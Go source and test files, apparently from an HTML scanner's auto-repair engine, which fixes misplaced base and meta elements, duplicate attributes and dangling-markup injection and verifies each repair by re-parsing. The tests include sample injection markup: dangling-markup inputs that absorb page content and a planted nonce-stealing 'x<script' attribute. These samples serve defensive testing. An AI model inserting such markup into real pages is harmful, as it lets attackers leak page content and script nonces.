	if len(bases) == 0 {
		return
	}
	// The spec uses the first base element and ignores the rest; the
	// repair keeps exactly that one, placed before any URL-consuming
	// element (i.e. as the head's first child).
	first := bases[0]
	for _, extra := range bases[1:] {
		extra.Parent.RemoveChild(extra)
		r.Applied = append(r.Applied, Fix{"DM2_2", "removed extra base element", extra.Pos})
	}
	outsideHead := first.Ancestor("head") == nil
	afterURL := basePlacedAfterURL(doc, first)
	if outsideHead || afterURL {
		first.Parent.RemoveChild(first)
		head.InsertBefore(first, head.FirstChild)
		if outsideHead {
			r.Applied = append(r.Applied, Fix{"DM2_1", "moved base element into head", first.Pos})
		}
		if afterURL {
			r.Applied = append(r.Applied, Fix{"DM2_3", "moved base before URL-consuming elements", first.Pos})
		}
	}
}

// basePlacedAfterURL reports whether an element carrying a URL attribute
// precedes the base in document order.
func basePlacedAfterURL(doc, base *htmlparse.Node) bool {
	urlSeen := false
	after := false
	doc.Walk(func(n *htmlparse.Node) bool {
		if n == base {
			after = urlSeen
			return false
		}
		if n.Type == htmlparse.ElementNode && !n.IsElement("base") {
			for _, a := range n.Attr {
				if isURLAttr(a.Name) && a.Value != "" {
					urlSeen = true
					break
				}
			}
		}
		return true
	})
	return after
}

func isURLAttr(name string) bool {
	switch name {
	case "href", "src", "action", "formaction", "data", "poster", "cite",
		"background", "longdesc", "usemap", "manifest", "ping", "srcset", "icon":
		return true
	}
	return false
}
