package autofix

import (
	"sync/atomic"

	"github.com/hvscan/hvscan/internal/obs"
)

// fixMetrics carries the repair-engine counters. The package-level atomic
// pointer mirrors htmlparse's instrumentation: zero overhead when no
// registry is installed, and Instrument is safe to call concurrently
// with repairs.
type fixMetrics struct {
	// applied counts every fix a strategy recorded, per rule; verified
	// counts the subset that survived re-parse verification; rejected
	// counts the subset discarded with the candidate. For every rule,
	// applied == verified + rejected.
	applied  map[string]*obs.Counter
	verified map[string]*obs.Counter
	rejected map[string]*obs.Counter
	// pages counts whole-document repairs by outcome.
	pages map[string]*obs.Counter
}

var metrics atomic.Pointer[fixMetrics]

// Instrument registers the repair engine's metrics on reg and starts
// recording: per-rule applied/verified/rejected fix counts and per-outcome
// page counts.
func Instrument(reg *obs.Registry) {
	ids := StrategyRuleIDs()
	m := &fixMetrics{
		applied:  reg.CounterVec("autofix_fixes_applied_total", "rule", ids...),
		verified: reg.CounterVec("autofix_fixes_verified_total", "rule", ids...),
		rejected: reg.CounterVec("autofix_fixes_rejected_total", "rule", ids...),
		pages:    reg.CounterVec("autofix_pages_total", "outcome", Outcomes()...),
	}
	metrics.Store(m)
}

// observeRepair records one finished repair. attempted is every fix any
// round recorded, whether or not the final candidate verified.
func observeRepair(r *Result, attempted []Fix) {
	m := metrics.Load()
	if m == nil {
		return
	}
	if c := m.pages[string(r.Outcome())]; c != nil {
		c.Inc()
	}
	settled := m.verified
	if len(r.Unfixable) > 0 {
		settled = m.rejected
	}
	for _, f := range attempted {
		if c := m.applied[f.RuleID]; c != nil {
			c.Inc()
		}
		if c := settled[f.RuleID]; c != nil {
			c.Inc()
		}
	}
}
