package autofix

import (
	"testing"

	"github.com/hvscan/hvscan/internal/core"
)

func check(t *testing.T, html []byte) *core.Report {
	t.Helper()
	rep, err := core.NewChecker().Check(html)
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	return rep
}

func repair(t *testing.T, in string) *Result {
	t.Helper()
	r, err := Repair([]byte(in))
	if err != nil {
		t.Fatalf("Repair: %v", err)
	}
	return r
}

func TestRepairRemovesFixableViolations(t *testing.T) {
	cases := []struct {
		name string
		in   string
		rule string
	}{
		{"FB1", `<!DOCTYPE html><html><head><title>t</title></head><body><img/src="x"/alt="a"></body></html>`, "FB1"},
		{"FB2", `<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a></body></html>`, "FB2"},
		{"DM3", `<!DOCTYPE html><html><head><title>t</title></head><body><div id="a" id="b">x</div></body></html>`, "DM3"},
		{"DM1", `<!DOCTYPE html><html><head><title>t</title></head><body><meta http-equiv="refresh" content="1"><p>x</p></body></html>`, "DM1"},
		{"DM2_1", `<!DOCTYPE html><html><head><title>t</title></head><body><base href="/b/"><p>x</p></body></html>`, "DM2_1"},
		{"DM2_2", `<!DOCTYPE html><html><head><base href="/a/"><base href="/b/"><title>t</title></head><body><p>x</p></body></html>`, "DM2_2"},
		{"DM2_3", `<!DOCTYPE html><html><head><link rel="stylesheet" href="/s.css"><base href="/l/"><title>t</title></head><body><p>x</p></body></html>`, "DM2_3"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if !check(t, []byte(tc.in)).Violated(tc.rule) {
				t.Fatalf("precondition: %s not present in input", tc.rule)
			}
			r := repair(t, tc.in)
			found := false
			for _, f := range r.Applied {
				if f.RuleID == tc.rule {
					found = true
				}
			}
			if !found {
				t.Fatalf("no %s fix recorded; applied = %v", tc.rule, r.Applied)
			}
			rep := check(t, r.Output)
			if rep.Violated(tc.rule) {
				t.Fatalf("%s survives repair:\n%s", tc.rule, r.Output)
			}
		})
	}
}

// TestRepairClearsAllFixableClasses: after Repair, no FB or DM violation
// remains, whatever the combination.
func TestRepairClearsAllFixableClasses(t *testing.T) {
	in := `<!DOCTYPE html><html><head><link href="/s.css" rel="stylesheet"><base href="/x/"><title>t</title></head>` +
		`<body><base href="/y/"><img/src=a/alt=b><p class=x class=y>text</p>` +
		`<meta http-equiv="refresh" content="2"><em a=1 a=2>z</em></body></html>`
	r := repair(t, in)
	rep := check(t, r.Output)
	for _, id := range rep.ViolatedIDs() {
		rule, _ := core.RuleByID(id)
		if rule.AutoFixable {
			t.Errorf("auto-fixable %s survives repair", id)
		}
	}
}

// TestRepairIdempotent: repairing a repaired document is a no-op.
func TestRepairIdempotent(t *testing.T) {
	in := `<!DOCTYPE html><html><head><title>t</title></head><body><img/src=a/alt=b><base href="/z/"><div id=i id=j>x</div></body></html>`
	r1 := repair(t, in)
	r2, err := Repair(r1.Output)
	if err != nil {
		t.Fatal(err)
	}
	if len(r2.Applied) != 0 {
		t.Fatalf("second repair applied fixes: %v", r2.Applied)
	}
	if string(r2.Output) != string(r1.Output) {
		t.Fatalf("repair not idempotent:\n%s\nvs\n%s", r1.Output, r2.Output)
	}
}

// TestRepairPreservesContent: the visible content survives the round trip.
func TestRepairPreservesContent(t *testing.T) {
	in := `<!DOCTYPE html><html><head><title>Shop</title></head><body>` +
		`<h1>Deals</h1><p>Buy <a href="/p/1"title="now">now</a> and save.</p></body></html>`
	r := repair(t, in)
	for _, want := range []string{"Deals", "Buy", "now", "and save.", `href="/p/1"`, `title="now"`} {
		if !contains(string(r.Output), want) {
			t.Errorf("repaired output lost %q:\n%s", want, r.Output)
		}
	}
}

// TestRepairLeavesHFAlone: non-fixable violations are reported untouched —
// HF4's foster parenting is materialized by serialization, but Repair must
// not claim credit.
func TestRepairLeavesHFAlone(t *testing.T) {
	in := `<!DOCTYPE html><html><head><title>t</title></head><body><form action="/a"><form action="/b"></form></form></body></html>`
	r := repair(t, in)
	for _, f := range r.Applied {
		if f.RuleID == "DE4" {
			t.Fatalf("claimed to fix DE4: %v", r.Applied)
		}
	}
}

func TestFixableRuleIDs(t *testing.T) {
	ids := FixableRuleIDs()
	want := map[string]bool{"FB1": true, "FB2": true, "DM1": true,
		"DM2_1": true, "DM2_2": true, "DM2_3": true, "DM3": true}
	if len(ids) != len(want) {
		t.Fatalf("fixable = %v", ids)
	}
	for _, id := range ids {
		if !want[id] {
			t.Fatalf("unexpected fixable rule %s", id)
		}
	}
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
