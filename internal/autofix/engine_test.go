package autofix

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/obs"
)

func TestStrategyRuleIDs(t *testing.T) {
	want := []string{"DE3_1", "DE3_3", "DM1", "DM2_1", "DM2_2", "DM2_3", "DM3", "FB1", "FB2"}
	got := StrategyRuleIDs()
	if len(got) != len(want) {
		t.Fatalf("strategies = %v", got)
	}
	seen := map[string]bool{}
	for _, id := range got {
		seen[id] = true
	}
	for _, id := range want {
		if !seen[id] {
			t.Errorf("missing strategy for %s", id)
		}
	}
}

// TestRepairDanglingMarkup: the DE3_1/DE3_3 tree-level strategies truncate
// the absorbed markup at the first newline and the result verifies clean.
func TestRepairDanglingMarkup(t *testing.T) {
	cases := []struct {
		name, in, rule, gone string
	}{
		{"DE3_1", "<!DOCTYPE html><html><head><title>t</title></head><body>" +
			"<img src=\"/x?q=\nsecret <b>stolen</b>\" alt=\"a\"></body></html>",
			"DE3_1", "secret"},
		{"DE3_3", "<!DOCTYPE html><html><head><title>t</title></head><body>" +
			"<a href=\"/x\" target=\"win\nleaked-content\">x</a></body></html>",
			"DE3_3", "leaked-content"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if !check(t, []byte(tc.in)).Violated(tc.rule) {
				t.Fatalf("precondition: %s not present in input", tc.rule)
			}
			r := repair(t, tc.in)
			if got := r.Outcome(); got != OutcomeFixed {
				t.Fatalf("outcome = %s, unfixable = %v", got, r.Unfixable)
			}
			found := false
			for _, f := range r.Applied {
				if f.RuleID == tc.rule {
					found = true
				}
			}
			if !found {
				t.Fatalf("no %s fix recorded; applied = %v", tc.rule, r.Applied)
			}
			if check(t, r.Output).Violated(tc.rule) {
				t.Fatalf("%s survives repair:\n%s", tc.rule, r.Output)
			}
			if strings.Contains(string(r.Output), tc.gone) {
				t.Fatalf("absorbed markup %q still present:\n%s", tc.gone, r.Output)
			}
		})
	}
}

// TestRepairConvergesOnSerializationSurfacedViolation: an entity-encoded
// newline in a URL attribute trips no rule on the input (the raw value has
// no literal newline), but serialization decodes it — the first rendered
// candidate violates DE3_1. The convergence loop must absorb that in a
// second round rather than emit the regressed candidate.
func TestRepairConvergesOnSerializationSurfacedViolation(t *testing.T) {
	in := "<!DOCTYPE html><html><head><title>t</title></head><body>" +
		`<div id="a" id="b">x</div><img src="/x?q=&#10;s &lt;b&gt;" alt="a"></body></html>`
	rep := check(t, []byte(in))
	if rep.Violated("DE3_1") {
		t.Fatal("precondition: input must not violate DE3_1 yet")
	}
	if !rep.Violated("DM3") {
		t.Fatal("precondition: input must violate DM3")
	}
	r := repair(t, in)
	if got := r.Outcome(); got != OutcomeFixed {
		t.Fatalf("outcome = %s, unfixable = %v", got, r.Unfixable)
	}
	if r.Rounds < 2 {
		t.Fatalf("expected a second convergence round, got %d", r.Rounds)
	}
	var ids []string
	for _, f := range r.Applied {
		ids = append(ids, f.RuleID)
	}
	if !contains(strings.Join(ids, ","), "DE3_1") {
		t.Fatalf("second round did not repair the surfaced DE3_1: %v", r.Applied)
	}
	out := check(t, r.Output)
	if out.HasViolation() {
		t.Fatalf("violations remain: %v", out.ViolatedIDs())
	}
}

// TestRepairUnfixableManifestBase: a manifest attribute on the html
// element consumes a URL before head exists, so no base placement can
// satisfy DM2_3. The engine must return the input untouched with an
// explicit Unfixable, not loop or emit a half-fixed candidate.
func TestRepairUnfixableManifestBase(t *testing.T) {
	in := `<!DOCTYPE html><html manifest="app.appcache"><head><base href="/b/">` +
		`<title>t</title></head><body><p>x</p></body></html>`
	if !check(t, []byte(in)).Violated("DM2_3") {
		t.Fatal("precondition: DM2_3 not present in input")
	}
	r := repair(t, in)
	if got := r.Outcome(); got != OutcomeUnfixable {
		t.Fatalf("outcome = %s, want unfixable", got)
	}
	if !bytes.Equal(r.Output, []byte(in)) {
		t.Fatalf("unfixable result must return the original input:\n%s", r.Output)
	}
	if len(r.Applied) != 0 {
		t.Fatalf("unfixable result must not report applied fixes: %v", r.Applied)
	}
	found := false
	for _, u := range r.Unfixable {
		if u.RuleID == "DM2_3" {
			found = true
		}
	}
	if !found {
		t.Fatalf("DM2_3 missing from unfixable list: %v", r.Unfixable)
	}
}

// withStrategies swaps the registry for the duration of one test so the
// verification machinery can be exercised against a misbehaving strategy.
func withStrategies(t *testing.T, s []Strategy) {
	t.Helper()
	old := strategies
	strategies = s
	t.Cleanup(func() { strategies = old })
}

// TestRepairRejectsRegressingStrategy: a strategy whose edit introduces a
// violation of a rule outside the registry must be caught by the re-parse
// verification and the whole repair discarded.
func TestRepairRejectsRegressingStrategy(t *testing.T) {
	withStrategies(t, []Strategy{strategyFunc{"DM3", func(tx *Tx) {
		// Claims to fix DM3 but plants a nonce-stealing pattern (DE3_2,
		// no strategy) in an attribute on the way out.
		tx.Res.Doc.Walk(func(n *htmlparse.Node) bool {
			if n.IsElement("div") {
				for i := range n.Attr {
					n.Attr[i].Value = "x<script y"
					n.Attr[i].RawValue = n.Attr[i].Value
				}
			}
			return true
		})
		tx.Record("pretended to fix a duplicate attribute", htmlparse.Position{})
	}}})
	in := `<!DOCTYPE html><html><head><title>t</title></head><body><div id="a" id="b">x</div></body></html>`
	r := repair(t, in)
	if got := r.Outcome(); got != OutcomeUnfixable {
		t.Fatalf("outcome = %s, want unfixable", got)
	}
	if !bytes.Equal(r.Output, []byte(in)) {
		t.Fatalf("rejected repair must return the original input:\n%s", r.Output)
	}
	if len(r.Applied) != 0 {
		t.Fatalf("rejected repair must not report applied fixes: %v", r.Applied)
	}
	if len(r.Unfixable) == 0 || r.Unfixable[0].RuleID != "DE3_2" {
		t.Fatalf("unfixable should name the introduced rule: %v", r.Unfixable)
	}
}

// TestRepairStalledStrategyUnfixable: a strategy that records nothing for
// a rule that keeps firing means no progress is possible; the engine must
// stop after one round, not burn the full budget.
func TestRepairStalledStrategyUnfixable(t *testing.T) {
	withStrategies(t, []Strategy{strategyFunc{"DE3_3", func(tx *Tx) {}}})
	in := "<!DOCTYPE html><html><head><title>t</title></head><body><a href=\"/x\" target=\"w\nleak\">x</a></body></html>"
	r := repair(t, in)
	if got := r.Outcome(); got != OutcomeUnfixable {
		t.Fatalf("outcome = %s, want unfixable", got)
	}
	if r.Rounds != 1 {
		t.Fatalf("stalled repair ran %d rounds, want 1", r.Rounds)
	}
}

// TestRepairOutcomes: the four outcome classes, including partial —
// violations outside the registry (a nonce-stealing DE3_2 pattern
// survives serialization verbatim) remain while the fixable ones clear.
func TestRepairOutcomes(t *testing.T) {
	cases := []struct {
		name, in string
		want     Outcome
	}{
		{"clean", `<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`, OutcomeClean},
		{"fixed", `<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a></body></html>`, OutcomeFixed},
		{"partial", `<!DOCTYPE html><html><head><title>t</title></head><body>` +
			`<a href="/x"title="t">x</a><img src="/i.png" alt="x<script n">` + `</body></html>`, OutcomePartial},
		{"unfixable", `<!DOCTYPE html><html manifest="a.appcache"><head><base href="/b/"><title>t</title></head><body><p>x</p></body></html>`, OutcomeUnfixable},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := repair(t, tc.in)
			if got := r.Outcome(); got != tc.want {
				t.Fatalf("outcome = %s, want %s (unfixable=%v remaining=%v)",
					got, tc.want, r.Unfixable, r.RemainingHits)
			}
			if tc.want == OutcomeClean && !bytes.Equal(r.Output, []byte(tc.in)) {
				t.Fatal("clean outcome must be a byte-identical no-op")
			}
		})
	}
}

// TestRepairContextCancelled: cancellation is an operational error, not an
// Unfixable outcome.
func TestRepairContextCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := RepairContext(ctx, []byte(`<!DOCTYPE html><html><head><title>t</title></head><body><div id="a" id="b">x</div></body></html>`), Options{})
	if err == nil {
		t.Fatal("expected a context error")
	}
}

// TestInstrumentCounts: applied == verified + rejected per rule, and page
// outcomes are counted.
func TestInstrumentCounts(t *testing.T) {
	reg := obs.NewRegistry()
	Instrument(reg)
	t.Cleanup(func() { metrics.Store(nil) })

	repair(t, `<!DOCTYPE html><html><head><title>t</title></head><body><div id="a" id="b">x</div></body></html>`)
	repair(t, `<!DOCTYPE html><html manifest="a.appcache"><head><link rel="x" href="/s.css"><base href="/b/"><title>t</title></head><body><p>x</p></body></html>`)

	m := metrics.Load()
	if got := m.pages[string(OutcomeFixed)].Value(); got != 1 {
		t.Errorf("pages{fixed} = %d, want 1", got)
	}
	if got := m.pages[string(OutcomeUnfixable)].Value(); got != 1 {
		t.Errorf("pages{unfixable} = %d, want 1", got)
	}
	for _, id := range StrategyRuleIDs() {
		applied := m.applied[id].Value()
		settled := m.verified[id].Value() + m.rejected[id].Value()
		if applied != settled {
			t.Errorf("%s: applied %d != verified+rejected %d", id, applied, settled)
		}
	}
	if m.applied["DM3"].Value() == 0 {
		t.Error("DM3 fix not counted as applied")
	}
	if m.rejected["DM2_3"].Value()+m.rejected["DM2_2"].Value() == 0 {
		t.Error("rejected fixes from the unfixable page not counted")
	}
}
