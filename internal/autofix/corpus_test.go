package autofix

import (
	"strings"
	"testing"
)

// TestFixCorpus runs the golden fix corpus: every case's outcome, applied
// list, unfixable list, remaining hits, and output bytes must match the
// checked-in goldens. Regenerate after an intentional engine change with
//
//	go run ./cmd/hvfix -corpus internal/autofix/testdata -update
//
// and review the diff — every hunk is a behavior change.
func TestFixCorpus(t *testing.T) {
	rep, err := RunFixDir("testdata", false)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range rep.Failures() {
		t.Errorf("FAIL %s\n%s", c.ID, c.Detail)
	}
	if rep.Total() < 60 {
		t.Errorf("corpus shrank to %d cases, want at least 60", rep.Total())
	}
	// Every registered strategy must have at least one covering case that
	// applies its fix, and the no-op and failure classes must both be
	// exercised.
	for _, id := range StrategyRuleIDs() {
		if rep.AppliedRules[id] == 0 {
			t.Errorf("no corpus case applies a fix for %s", id)
		}
	}
	for _, class := range []string{string(OutcomeClean), string(OutcomeFixed),
		string(OutcomePartial), string(OutcomeUnfixable)} {
		if rep.ByOutcome[class] == 0 {
			t.Errorf("no corpus case exercises the %s outcome", class)
		}
	}
}

// TestFixCorpusVerification re-proves the engine contract over every
// corpus case independently of the goldens: a non-unfixable repair's
// output re-checks clean of every strategy-covered rule and no rule has
// more findings than the input had; an unfixable repair returns the
// input untouched with no applied fixes.
func TestFixCorpusVerification(t *testing.T) {
	cases := loadAllCases(t)
	for _, c := range cases {
		c := c
		t.Run(c.ID(), func(t *testing.T) {
			r, err := Repair([]byte(c.Data))
			if err != nil {
				t.Fatal(err)
			}
			before := check(t, []byte(c.Data))
			after := check(t, r.Output)
			if len(r.Unfixable) > 0 {
				if string(r.Output) != c.Data {
					t.Fatal("unfixable repair must return the input untouched")
				}
				if len(r.Applied) != 0 {
					t.Fatalf("unfixable repair reported applied fixes: %v", r.Applied)
				}
				return
			}
			for _, id := range StrategyRuleIDs() {
				if after.RuleHits[id] > 0 {
					t.Errorf("%s survives a verified repair", id)
				}
			}
			for id, n := range after.RuleHits {
				if n > before.RuleHits[id] {
					t.Errorf("repair increased %s: %d -> %d", id, before.RuleHits[id], n)
				}
			}
		})
	}
}

func loadAllCases(t *testing.T) []FixCase {
	t.Helper()
	var out []FixCase
	for _, f := range []string{"fb", "dm_meta", "dm_base", "dm_attr", "de_dangling", "clean", "partial", "unfixable", "mixed"} {
		cases, err := ParseFixFile("testdata/" + f + ".fix")
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, cases...)
	}
	return out
}

// TestParseFixRoundTrip: FormatFixCase and ParseFix are inverse.
func TestParseFixRoundTrip(t *testing.T) {
	c := FixCase{
		Data:      "<!DOCTYPE html><p id=\"a\" id=\"b\">x\ny</p>",
		Outcome:   "fixed",
		Applied:   []string{"DM3 dropped duplicate attribute (id)"},
		Remaining: []string{"DE1 1"},
		Output:    "<!DOCTYPE html><html><head></head><body><p id=\"a\">x\ny</p></body></html>",
	}
	got, err := ParseFix("t.fix", FormatFixCase(&c))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 {
		t.Fatalf("round trip produced %d cases", len(got))
	}
	g := got[0]
	if g.Data != c.Data || g.Outcome != c.Outcome || g.Output != c.Output {
		t.Fatalf("round trip mismatch:\n%#v\nvs\n%#v", g, c)
	}
	if strings.Join(g.Applied, "|") != strings.Join(c.Applied, "|") ||
		strings.Join(g.Remaining, "|") != strings.Join(c.Remaining, "|") {
		t.Fatalf("round trip lost sections:\n%#v", g)
	}
}

// TestParseFixErrors: malformed fixtures are rejected with file:line.
func TestParseFixErrors(t *testing.T) {
	for _, bad := range []string{
		"#outcome\nfixed\n",
		"#data\n#outcome\nclean\n",
		"stray content\n",
	} {
		if _, err := ParseFix("bad.fix", bad); err == nil {
			t.Errorf("ParseFix accepted %q", bad)
		}
	}
}
