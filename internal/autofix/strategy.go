package autofix

import (
	"strings"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Strategy is one rule family's repair. Apply edits the parse tree in
// tx.Res (or records fixes that plain serialization performs, for the
// syntax-level families) and records every action via tx.Record. A
// strategy only runs in rounds where its rule has findings, and nothing a
// strategy does is trusted: the engine re-parses the serialized output
// and keeps the edits only if the targeted rule is gone and no other rule
// got worse.
type Strategy interface {
	// RuleID is the catalogue rule this strategy repairs.
	RuleID() string
	// Apply performs the repair for this round's findings.
	Apply(tx *Tx)
}

// Tx is the context one strategy application runs in: the current round's
// parse, the findings for the strategy's rule, and the fix recorder.
type Tx struct {
	// Res is the instrumented parse of the current round's input. Apply
	// mutates Res.Doc; the engine serializes it afterwards.
	Res *htmlparse.Result
	// Findings are this round's findings for the strategy's rule.
	Findings []core.Finding

	ruleID string
	fixes  []Fix
}

// Record notes one repair action at pos.
func (tx *Tx) Record(desc string, pos htmlparse.Position) {
	tx.fixes = append(tx.fixes, Fix{RuleID: tx.ruleID, Description: desc, Pos: pos})
}

// Head returns the document's head element, or nil.
func (tx *Tx) Head() *htmlparse.Node {
	return tx.Res.Doc.Find(func(n *htmlparse.Node) bool { return n.IsElement("head") })
}

type strategyFunc struct {
	id    string
	apply func(*Tx)
}

func (s strategyFunc) RuleID() string { return s.id }
func (s strategyFunc) Apply(tx *Tx)   { s.apply(tx) }

// strategies is the registry, in catalogue order. One strategy per
// fixable rule family; the engine consults it for targeting, application
// order, and the verification contract (strategy-covered rules must end
// at zero).
var strategies = []Strategy{
	strategyFunc{"DE3_1", fixDE31},
	strategyFunc{"DE3_3", fixDE33},
	strategyFunc{"DM1", fixDM1},
	strategyFunc{"DM2_1", fixDM21},
	strategyFunc{"DM2_2", fixDM22},
	strategyFunc{"DM2_3", fixDM23},
	serializeStrategy("DM3", "dropped duplicate attribute"),
	serializeStrategy("FB1", "replaced solidus attribute separator with whitespace"),
	serializeStrategy("FB2", "inserted missing whitespace between attributes"),
}

// Strategies returns the registered strategies in application order.
func Strategies() []Strategy { return strategies }

// StrategyRuleIDs returns the rules the engine actually repairs — the
// paper's FB/DM set plus the DE families with recoverable intent.
func StrategyRuleIDs() []string {
	out := make([]string, len(strategies))
	for i, s := range strategies {
		out[i] = s.RuleID()
	}
	return out
}

// serializeStrategy covers the syntax-level families (FB1, FB2, DM3)
// where the parse already normalized the document — the stray solidus is
// gone from the token, the duplicate attribute is flagged and skipped by
// the serializer — so rendering is the repair. Apply records one fix per
// finding; the re-parse verification then proves the claim.
func serializeStrategy(id, desc string) Strategy {
	return strategyFunc{id, func(tx *Tx) {
		for _, f := range tx.Findings {
			d := desc
			if f.Evidence != "" {
				d = desc + " (" + f.Evidence + ")"
			}
			tx.Record(d, f.Pos)
		}
	}}
}

// fixDE31 repairs dangling-markup URL attributes by truncating the value
// at the first newline — the same cut Chromium applies before issuing the
// resource load. The rule matches the raw (pre-decoding) value, so the
// predicate here mirrors de31Token exactly; attributes whose token never
// reached the tree (dropped nested forms and the like) vanish in
// serialization without an edit.
func fixDE31(tx *Tx) {
	tx.Res.Doc.Walk(func(n *htmlparse.Node) bool {
		if n.Type != htmlparse.ElementNode {
			return true
		}
		for i := range n.Attr {
			a := &n.Attr[i]
			if a.Duplicate || !core.URLAttribute(a.Name) {
				continue
			}
			if !strings.ContainsRune(a.RawValue, '\n') || !strings.ContainsRune(a.RawValue, '<') {
				continue
			}
			if truncateAttrAtNewline(a) {
				tx.Record("truncated URL attribute "+a.Name+" at the first newline", a.Pos)
			}
		}
		return true
	})
}

// fixDE33 repairs non-terminated target attributes the same way: the
// window name ends at the first newline, so nothing after it can leak to
// the next navigation target.
func fixDE33(tx *Tx) {
	tx.Res.Doc.Walk(func(n *htmlparse.Node) bool {
		if n.Type != htmlparse.ElementNode || !core.TargetAttributeTag(n.Data) {
			return true
		}
		for i := range n.Attr {
			a := &n.Attr[i]
			if a.Duplicate || a.Name != "target" {
				continue
			}
			if !strings.ContainsRune(a.RawValue, '\n') {
				continue
			}
			if truncateAttrAtNewline(a) {
				tx.Record("truncated target attribute at the first newline", a.Pos)
			}
		}
		return true
	})
}

// truncateAttrAtNewline cuts the decoded value at its first newline. The
// raw value is updated alongside so a strategy re-running in the same
// round sees the edit; the serializer reads only Value.
func truncateAttrAtNewline(a *htmlparse.Attribute) bool {
	cut := strings.IndexByte(a.Value, '\n')
	if cut < 0 {
		return false
	}
	a.Value = a.Value[:cut]
	a.RawValue = a.Value
	return true
}

// fixDM1 moves meta[http-equiv] elements that landed outside head back
// into it. Findings beyond the moved nodes are after-head metas the tree
// builder already rerouted into the head element — serialization
// materializes the reroute, and the fix is recorded against the finding.
func fixDM1(tx *Tx) {
	head := tx.Head()
	if head == nil {
		return
	}
	var move []*htmlparse.Node
	tx.Res.Doc.Walk(func(n *htmlparse.Node) bool {
		if n.IsElement("meta") {
			if _, ok := n.LookupAttr("http-equiv"); ok && n.Ancestor("head") == nil {
				move = append(move, n)
			}
		}
		return true
	})
	for _, n := range move {
		n.Parent.RemoveChild(n)
		head.AppendChild(n)
		tx.Record("moved meta[http-equiv] into head", n.Pos)
	}
	for i := len(move); i < len(tx.Findings); i++ {
		tx.Record("re-serialized meta[http-equiv] inside head", tx.Findings[i].Pos)
	}
}

// fixDM21 moves the document's first base element into the head. Later
// bases outside head are DM2_2 extras; that strategy removes them.
func fixDM21(tx *Tx) {
	head, first := tx.Head(), firstBase(tx.Res.Doc)
	if head == nil || first == nil {
		return
	}
	if first.Ancestor("head") != nil {
		// After-head bases the tree builder already rerouted into the
		// head element: serialization materializes the reroute. Findings
		// on in-body extras are DM2_2's to fix, so only record the
		// findings whose base actually sits in head now.
		inHead := map[htmlparse.Position]bool{}
		tx.Res.Doc.Walk(func(n *htmlparse.Node) bool {
			if n.IsElement("base") && n.Ancestor("head") != nil {
				inHead[n.Pos] = true
			}
			return true
		})
		for _, f := range tx.Findings {
			if inHead[f.Pos] {
				tx.Record("re-serialized base inside head", f.Pos)
			}
		}
		return
	}
	first.Parent.RemoveChild(first)
	head.InsertBefore(first, head.FirstChild)
	tx.Record("moved base element into head", first.Pos)
}

// fixDM22 enforces the spec's one-base rule the way the parser already
// resolves it: the first base wins, the rest are removed.
func fixDM22(tx *Tx) {
	bases := tx.Res.Doc.FindAll(func(n *htmlparse.Node) bool { return n.IsElement("base") })
	for _, extra := range bases[min(1, len(bases)):] {
		extra.Parent.RemoveChild(extra)
		tx.Record("removed extra base element", extra.Pos)
	}
}

// fixDM23 hoists the base to the head's first child so no URL-consuming
// element precedes it. A URL attribute that precedes head itself — a
// manifest on the html element — defeats the hoist; the strategy then has
// no edit to offer and the engine reports the rule Unfixable.
func fixDM23(tx *Tx) {
	head, first := tx.Head(), firstBase(tx.Res.Doc)
	if head == nil || first == nil || !basePlacedAfterURL(tx.Res.Doc, first) {
		return
	}
	if head.FirstChild == first {
		return
	}
	first.Parent.RemoveChild(first)
	head.InsertBefore(first, head.FirstChild)
	tx.Record("moved base before URL-consuming elements", first.Pos)
}

func firstBase(doc *htmlparse.Node) *htmlparse.Node {
	return doc.Find(func(n *htmlparse.Node) bool { return n.IsElement("base") })
}

// basePlacedAfterURL reports whether an element carrying a URL attribute
// precedes the base in document order (the DM2_3 predicate).
func basePlacedAfterURL(doc, base *htmlparse.Node) bool {
	urlSeen := false
	after := false
	doc.Walk(func(n *htmlparse.Node) bool {
		if n == base {
			after = urlSeen
			return false
		}
		if n.Type == htmlparse.ElementNode && !n.IsElement("base") {
			for _, a := range n.Attr {
				if core.URLAttribute(a.Name) && a.Value != "" {
					urlSeen = true
					break
				}
			}
		}
		return true
	})
	return after
}
