package autofix

import (
	"bytes"
	"context"
	"fmt"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// DefaultMaxRounds bounds the fix→recheck convergence loop. One round
// suffices for independent fixes; a second absorbs violations that
// serialization itself surfaces (e.g. an entity-encoded newline in a URL
// attribute decoding into a literal one); the third is headroom. A
// document that has not converged by then is declared Unfixable rather
// than looped on.
const DefaultMaxRounds = 3

// Options configures Repair.
type Options struct {
	// MaxRounds caps the fix→recheck loop; 0 means DefaultMaxRounds.
	MaxRounds int
	// MaxTreeDepth is forwarded to the parser (0 = unlimited). Online
	// serving sets it so hostile nesting fails fast; see
	// htmlparse.Options.
	MaxTreeDepth int
}

// Repair runs the full strategy registry over input with default options.
func Repair(input []byte) (*Result, error) {
	//lint:ignore ctxsleep convenience wrapper for batch callers; cancellable paths use RepairContext
	return RepairContext(context.Background(), input, Options{})
}

// RepairContext parses input, applies every strategy whose rule has
// findings, serializes, and verifies the result by re-parsing: each
// strategy-covered rule must reach zero findings and no rule of the
// catalogue may gain any, within the bounded convergence loop. On
// verification failure the returned Result carries the original input,
// an empty Applied list, and the Unfixable reasons — unverified output is
// never emitted. The error return is operational only (invalid encoding,
// depth cap on the input, context cancellation), never a failed repair.
func RepairContext(ctx context.Context, input []byte, opts Options) (*Result, error) {
	maxRounds := opts.MaxRounds
